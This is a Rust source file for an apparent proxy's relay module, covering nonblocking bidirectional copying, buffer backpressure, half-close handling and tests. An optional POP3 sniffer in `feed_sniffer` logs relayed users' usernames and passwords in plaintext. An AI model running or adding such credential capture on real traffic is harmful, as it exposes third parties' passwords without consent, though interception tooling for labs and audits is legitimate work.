//! Bidirectional copy between the client and the destination socket.
//!
//! ```text
//!            upstream buffer
//! client  ------------------->  server
//!         <-------------------
//!           downstream buffer
//! ```
//!
//! Each side has a copy context: what it may still do (`allowed`) and what
//! it currently waits for (`interest`). A side reads into the buffer its
//! peer writes from. `allowed` only ever shrinks; the relay is over when
//! both sides have nothing left.
use std::io::{self, Read, Write};
use std::net::{Shutdown, SocketAddr};

use log::*;
use mio::Registry;

use crate::buffer::Buffer;
use crate::metrics::Stats;
use crate::model::Result;
use crate::selector::{Endpoint, Ops, Side};
use crate::sniffer::{Pop3Sniffer, SnifferSwitch};

/// Everything a relay step touches, borrowed from the session
pub struct Link<'a> {
    pub registry: &'a Registry,
    pub stats: &'a Stats,
    pub sniffer: &'a SnifferSwitch,
    pub client: &'a mut Endpoint,
    pub server: &'a mut Endpoint,
    /// client -> server
    pub upstream: &'a mut Buffer,
    /// server -> client
    pub downstream: &'a mut Buffer,
}

impl<'a> Link<'a> {
    /// (this side, its peer, buffer this side reads into, buffer this side writes from)
    fn split(&mut self, side: Side) -> (&mut Endpoint, &mut Endpoint, &mut Buffer, &mut Buffer) {
        match side {
            Side::Client => (
                &mut *self.client,
                &mut *self.server,
                &mut *self.upstream,
                &mut *self.downstream,
            ),
            Side::Server => (
                &mut *self.server,
                &mut *self.client,
                &mut *self.downstream,
                &mut *self.upstream,
            ),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CopyContext {
    interest: Ops,
    allowed: Ops,
}

impl CopyContext {
    fn new() -> Self {
        Self {
            interest: Ops::NOOP,
            allowed: Ops::READ_WRITE,
        }
    }

    fn arm(&mut self, ops: Ops) {
        self.interest = self.interest | (ops & self.allowed);
    }

    fn disarm(&mut self, ops: Ops) {
        self.interest = self.interest & !ops;
    }

    fn revoke(&mut self, ops: Ops) {
        self.allowed = self.allowed & !ops;
        self.disarm(ops);
    }

    #[cfg(test)]
    pub fn allowed(&self) -> Ops {
        self.allowed
    }

    #[cfg(test)]
    pub fn interest(&self) -> Ops {
        self.interest
    }
}

#[derive(Debug)]
pub struct Relay {
    client: CopyContext,
    server: CopyContext,
    sniffer: Option<Pop3Sniffer>,
}

impl Relay {
    pub fn new(sniffer: Option<Pop3Sniffer>) -> Self {
        Self {
            client: CopyContext::new(),
            server: CopyContext::new(),
            sniffer,
        }
    }

    /// Arm both sides. Bytes already buffered are sent right away.
    pub fn start(&mut self, link: &mut Link) -> Result<()> {
        self.client.arm(Ops::READ);
        self.server.arm(Ops::READ);
        if link.upstream.can_read() {
            self.server.arm(Ops::WRITE);
        }
        if link.downstream.can_read() {
            self.client.arm(Ops::WRITE);
        }
        link.client.set_interest(link.registry, self.client.interest)?;
        link.server.set_interest(link.registry, self.server.interest)?;
        Ok(())
    }

    #[cfg(test)]
    pub fn context(&self, side: Side) -> &CopyContext {
        match side {
            Side::Client => &self.client,
            Side::Server => &self.server,
        }
    }

    pub fn is_done(&self) -> bool {
        [&self.client, &self.server]
            .iter()
            .all(|ctx| ctx.allowed.is_empty() && ctx.interest.is_empty())
    }

    /// `side` became readable
    pub fn on_read(&mut self, side: Side, link: &mut Link) -> Result<()> {
        let Relay {
            client,
            server,
            sniffer,
        } = self;
        let (ctx, peer_ctx) = match side {
            Side::Client => (client, server),
            Side::Server => (server, client),
        };
        if !ctx.allowed.contains(Ops::READ) {
            trace!("{:?} read half already closed", side);
            return Ok(());
        }

        let registry = link.registry;
        let stats = link.stats;
        let mut sniff = if link.sniffer.is_on() {
            sniffer.as_mut()
        } else {
            None
        };
        let addrs = (link.client.addr, link.server.addr);
        let (this, peer, inbound, _) = link.split(side);

        let mut received = 0;
        let mut closed = false;
        while inbound.can_write() {
            match this.stream.read(inbound.writable()) {
                Ok(0) => {
                    closed = true;
                    break;
                }
                Ok(n) => {
                    if let Some(sniffer) = sniff.as_deref_mut() {
                        feed_sniffer(sniffer, stats, side, &inbound.writable()[..n], addrs);
                    }
                    inbound.advance_write(n);
                    received += n;
                }
                Err(err) if err.kind() == io::ErrorKind::WouldBlock => break,
                Err(err) if err.kind() == io::ErrorKind::Interrupted => continue,
                Err(err) => {
                    debug!("{}: read error: {}", this.addr, err);
                    closed = true;
                    break;
                }
            }
        }
        trace!("{}: {} bytes received", this.addr, received);

        if received > 0 {
            peer_ctx.arm(Ops::WRITE);
        }
        if closed {
            debug!("{}: read half closed", this.addr);
            ctx.revoke(Ops::READ);
            this.shutdown(Shutdown::Read);
            if inbound.is_empty() {
                peer_ctx.revoke(Ops::WRITE);
                peer.shutdown(Shutdown::Write);
            }
        } else if inbound.can_write() {
            ctx.arm(Ops::READ);
        } else {
            // full, resumed when the peer drains it
            ctx.disarm(Ops::READ);
        }
        this.set_interest(registry, ctx.interest)?;
        peer.set_interest(registry, peer_ctx.interest)?;
        Ok(())
    }

    /// `side` became writable
    pub fn on_write(&mut self, side: Side, link: &mut Link) -> Result<()> {
        let (ctx, peer_ctx) = match side {
            Side::Client => (&mut self.client, &mut self.server),
            Side::Server => (&mut self.server, &mut self.client),
        };
        if !ctx.allowed.contains(Ops::WRITE) {
            trace!("{:?} write half already closed", side);
            return Ok(());
        }

        let registry = link.registry;
        let stats = link.stats;
        let (this, peer, _, outbound) = link.split(side);

        let mut sent = 0;
        while outbound.can_read() {
            match this.stream.write(outbound.readable()) {
                Ok(0) => return Err(io::Error::from(io::ErrorKind::WriteZero).into()),
                Ok(n) => {
                    outbound.advance_read(n);
                    stats.add_bytes(n);
                    sent += n;
                }
                Err(err) if err.kind() == io::ErrorKind::WouldBlock => break,
                Err(err) if err.kind() == io::ErrorKind::Interrupted => continue,
                Err(err) => {
                    debug!("{}: write error: {}", this.addr, err);
                    return Err(err.into());
                }
            }
        }
        trace!("{}: {} bytes sent", this.addr, sent);

        if sent > 0 {
            peer_ctx.arm(Ops::READ);
        }
        if outbound.is_empty() {
            ctx.disarm(Ops::WRITE);
            if !peer_ctx.allowed.contains(Ops::READ) {
                debug!("{}: write half closed", this.addr);
                ctx.revoke(Ops::WRITE);
                this.shutdown(Shutdown::Write);
            }
        } else {
            ctx.arm(Ops::WRITE);
        }
        this.set_interest(registry, ctx.interest)?;
        peer.set_interest(registry, peer_ctx.interest)?;
        Ok(())
    }
}

fn feed_sniffer(
    sniffer: &mut Pop3Sniffer,
    stats: &Stats,
    side: Side,
    chunk: &[u8],
    addrs: (SocketAddr, SocketAddr),
) {
    match side {
        Side::Client => sniffer.client_bytes(chunk),
        Side::Server => {
            for cred in sniffer.server_bytes(chunk) {
                stats.sniffed();
                info!(
                    "POP3 credentials: {} => {}: user={:?} pass={:?} {}",
                    addrs.0,
                    addrs.1,
                    cred.user,
                    cred.pass,
                    if cred.accepted { "accepted" } else { "rejected" }
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{TcpListener, TcpStream};
    use std::thread;
    use std::time::Duration;

    use mio::{Poll, Token};

    /// (proxy side endpoint, remote peer)
    fn pair(token: Token) -> (Endpoint, TcpStream) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let remote = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        let (local, addr) = listener.accept().unwrap();
        local.set_nonblocking(true).unwrap();
        let ep = Endpoint::new(mio::net::TcpStream::from_std(local), addr, token);
        (ep, remote)
    }

    struct Fixture {
        poll: Poll,
        stats: Stats,
        switch: SnifferSwitch,
        client: Endpoint,
        server: Endpoint,
        upstream: Buffer,
        downstream: Buffer,
        remote_client: TcpStream,
        remote_server: TcpStream,
    }

    impl Fixture {
        fn new() -> Self {
            let (client, remote_client) = pair(Token(2));
            let (server, remote_server) = pair(Token(3));
            Self {
                poll: Poll::new().unwrap(),
                stats: Stats::new(),
                switch: SnifferSwitch::new(false),
                client,
                server,
                upstream: Buffer::new(64),
                downstream: Buffer::new(64),
                remote_client,
                remote_server,
            }
        }

        fn link(&mut self) -> Link<'_> {
            Link {
                registry: self.poll.registry(),
                stats: &self.stats,
                sniffer: &self.switch,
                client: &mut self.client,
                server: &mut self.server,
                upstream: &mut self.upstream,
                downstream: &mut self.downstream,
            }
        }

        /// retry `on_read` until `cond` holds on the relay
        fn read_until<F: Fn(&Relay, &Fixture) -> bool>(&mut self, relay: &mut Relay, side: Side, cond: F) {
            for _ in 0..200 {
                relay.on_read(side, &mut self.link()).unwrap();
                if cond(relay, self) {
                    return;
                }
                thread::sleep(Duration::from_millis(10));
            }
            panic!("condition not reached");
        }
    }

    #[test]
    fn copy_both_ways() {
        let mut fx = Fixture::new();
        let mut relay = Relay::new(None);
        relay.start(&mut fx.link()).unwrap();
        assert_eq!(relay.context(Side::Client).interest(), Ops::READ);

        fx.remote_client.write_all(b"hello server").unwrap();
        fx.read_until(&mut relay, Side::Client, |_, fx| fx.upstream.len() == 12);
        assert_eq!(relay.context(Side::Server).interest(), Ops::READ_WRITE);
        relay.on_write(Side::Server, &mut fx.link()).unwrap();
        assert!(fx.upstream.is_empty());
        assert_eq!(relay.context(Side::Server).interest(), Ops::READ);

        let mut buf = [0u8; 12];
        fx.remote_server.read_exact(&mut buf).unwrap();
        assert_eq!(&buf, b"hello server");

        fx.remote_server.write_all(b"hi").unwrap();
        fx.read_until(&mut relay, Side::Server, |_, fx| fx.downstream.len() == 2);
        relay.on_write(Side::Client, &mut fx.link()).unwrap();
        let mut buf = [0u8; 2];
        fx.remote_client.read_exact(&mut buf).unwrap();
        assert_eq!(&buf, b"hi");
        assert_eq!(fx.stats.snapshot().bytes_transferred, 14);
    }

    #[test]
    fn full_buffer_pauses_reading() {
        let mut fx = Fixture::new();
        let mut relay = Relay::new(None);
        relay.start(&mut fx.link()).unwrap();

        fx.remote_client.write_all(&[0x55; 100]).unwrap();
        fx.read_until(&mut relay, Side::Client, |_, fx| !fx.upstream.can_write());
        assert!(!relay.context(Side::Client).interest().contains(Ops::READ));

        relay.on_write(Side::Server, &mut fx.link()).unwrap();
        assert!(relay.context(Side::Client).interest().contains(Ops::READ));
    }

    #[test]
    fn destination_eof_then_client_eof() {
        let mut fx = Fixture::new();
        let mut relay = Relay::new(None);
        relay.start(&mut fx.link()).unwrap();

        fx.remote_server.shutdown(Shutdown::Write).unwrap();
        fx.read_until(&mut relay, Side::Server, |relay, _| {
            !relay.context(Side::Server).allowed().contains(Ops::READ)
        });
        // nothing buffered: the client write half goes right away
        assert!(!relay.context(Side::Client).allowed().contains(Ops::WRITE));
        let mut buf = [0u8; 1];
        assert_eq!(fx.remote_client.read(&mut buf).unwrap(), 0);
        assert!(!relay.is_done());

        // further readiness on a closed half is ignored
        relay.on_read(Side::Server, &mut fx.link()).unwrap();
        assert!(fx.downstream.is_empty());

        fx.remote_client.write_all(b"bye").unwrap();
        fx.remote_client.shutdown(Shutdown::Write).unwrap();
        fx.read_until(&mut relay, Side::Client, |relay, _| {
            !relay.context(Side::Client).allowed().contains(Ops::READ)
        });
        // buffered bytes keep the server write half open until drained
        assert!(!relay.is_done());
        relay.on_write(Side::Server, &mut fx.link()).unwrap();
        assert!(relay.is_done());

        let mut rest = vec![];
        fx.remote_server.read_to_end(&mut rest).unwrap();
        assert_eq!(rest, b"bye");
    }
}
